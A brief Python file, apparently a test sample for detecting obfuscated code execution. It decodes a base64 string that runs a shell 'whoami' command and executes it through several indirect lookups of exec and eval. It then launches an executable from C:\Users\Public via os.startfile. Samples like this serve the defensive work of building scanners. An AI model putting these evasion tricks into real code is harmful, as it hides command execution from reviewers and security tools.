import base64
import os

_src = base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgid2hvYW1pIik=")
vars(__builtins__)["exec"](_src)
__builtins__.__dict__.get("eval")(_src)
globals()["__builtins__"].exec.__call__(_src)
os.__dict__["startfile"]("C:\\Users\\Public\\u.exe")
